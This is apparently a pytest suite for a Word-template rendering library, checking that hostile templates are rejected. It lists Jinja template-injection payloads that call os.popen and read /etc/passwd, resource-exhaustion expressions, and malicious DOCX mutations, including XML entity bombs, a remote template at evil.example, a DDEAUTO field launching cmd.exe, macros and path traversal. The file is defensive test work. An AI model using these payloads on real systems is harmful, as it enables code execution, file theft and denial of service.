"""Templates that come by e-mail: what would run, fetch, or never end is refused."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

import pytest

import khrongkan as kk
from khrongkan.writers import docx
from khrongkan.writers.templates.package import LARGEST_XML
from word_template import paragraph, template

if TYPE_CHECKING:
    from pathlib import Path

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"
END = "</Relationships>"

SAID = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ request|attr('application')|attr('__globals__') }}",
    "{{ ()|attr('__class__')|attr('__base__') }}",
    "{{ name|map(attribute='__class__')|list }}",
    "{{ name.format(name) }}",
    "{{ '%s'|format(name.__class__) }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ [].append.__self__ }}",
    "{{ name['__class__'] }}",
    "{{ 'x' * 10**9 }}",
    "{{ 'x'.center(10**9) }}",
    "{{ 'x'|center(1000000000) }}",
    "{{ range(10**9)|list }}",
    "{% for a in range(1000000000) %}x{% endfor %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% set x = ''.__class__ %}",
    "{% with a=1 %}{% endwith %}",
    "{% call m() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{{ " + "(" * 500 + "name" + ")" * 500 + " }}",
    "{{ " + "name~" * 1_000 + "name }}",
    "{{ lambda: 1 }}",
    "{{ name if True else open('/etc/passwd').read() }}",
]


def related(kind: str, target: str, *, outside: bool = False) -> dict[str, tuple[str, str]]:
    """A relationship more in the document."""
    mode = ' TargetMode="External"' if outside else ""
    row = f'<Relationship Id="x" Type="{REL}/{kind}"{mode} Target="{target}"/>'
    return {RELS: (END, row + END)}


def header(old: str, new: str) -> dict[str, tuple[str, str]]:
    """Other markup in the header."""
    return {"word/header1.xml": (old, new)}


PACKED = {
    "billion laughs": header("<w:hdr", '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:hdr'),
    "file entity": header("<w:hdr", '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///x">]><w:hdr'),
    "other encoding": header('encoding="UTF-8"', 'encoding="UTF-7"'),
    "remote template": related("attachedTemplate", "https://evil.example/x.dotm", outside=True),
    "linked picture": related("image", "\\\\evil\\share\\x.png", outside=True),
    "file as a part": related("image", "file:///etc/passwd"),
    "way out of the package": related("image", "../../../x.png"),
    "script in a link": related("hyperlink", "javascript:alert(1)", outside=True),
    "object": related("oleObject", "o.bin"),
    "control": related("control", "o.bin"),
    "chunk of html": related("aFChunk", "x.html"),
    "macros": {"[Content_Types].xml": ("document.main", "document.macroEnabled.main")},
    "dde": header(" PAGE ", " DDEAUTO c:\\windows\\system32\\cmd.exe "),
    "included text": header(" PAGE ", ' INCLUDETEXT "c:/secret.txt" '),
    "broken part": {"word/document.xml": ("</w:body>", "")},
}


def refused(path: Path) -> None:
    with pytest.raises(kk.RenderError):
        docx.write(kk.compose(kk.load({"name": "อาหาร"})), template=path)


@pytest.mark.parametrize("said", SAID)
def test_a_tag_reaches_nothing_but_facts(said: str, tmp_path: Path) -> None:
    path = tmp_path / "mail.docx"
    path.write_bytes(template(paragraph(said)))
    refused(path)


@pytest.mark.parametrize("name", PACKED)
def test_a_package_that_runs_or_fetches_is_not_opened(name: str, tmp_path: Path) -> None:
    path = tmp_path / "mail.docx"
    path.write_bytes(template(paragraph("{{ name }}"), swaps=PACKED[name]))
    refused(path)


def test_a_package_with_macros_is_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "mail.docx"
    path.write_bytes(template(paragraph("{{ name }}"), more={"word/vbaProject.bin": b"x"}))
    refused(path)


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/x.xml", "word/..\\x.xml", "c:/x.xml"])
def test_a_path_out_of_the_package_is_refused(name: str, tmp_path: Path) -> None:
    path = tmp_path / "mail.docx"
    path.write_bytes(template(paragraph("{{ name }}"), more={name: b"<x/>"}))
    refused(path)


def test_a_zip_bomb_is_not_unzipped(tmp_path: Path) -> None:
    path = tmp_path / "mail.docx"
    path.write_bytes(template("x", more={"word/x.xml": b" " * (LARGEST_XML + 1)}))
    refused(path)


def test_thousands_of_parts_are_refused(tmp_path: Path) -> None:
    made = io.BytesIO(template("x"))
    with zipfile.ZipFile(made, "a") as archive:
        for number in range(2_100):
            archive.writestr(f"word/x{number}.xml", "<x/>")
    path = tmp_path / "mail.docx"
    path.write_bytes(made.getvalue())
    refused(path)


def test_loops_in_loops_end(tmp_path: Path) -> None:
    begin = "".join(f"{{% for a{n} in activities %}}" for n in range(5))
    path = tmp_path / "mail.docx"
    path.write_bytes(template(paragraph(begin + "x" + "{% endfor %}" * 5)))
    sheet = kk.compose(kk.load({"name": "อาหาร", "activities": ["ก"] * 20}))
    with pytest.raises(kk.RenderError) as caught:
        docx.write(sheet, template=path)
    assert caught.value.findings[0].code == "template-too-many-steps"


def test_tags_stand_only_so_deep_in_each_other(tmp_path: Path) -> None:
    path = tmp_path / "mail.docx"
    path.write_bytes(template(paragraph("{% if name %}" * 50 + "x" + "{% endif %}" * 50)))
    refused(path)
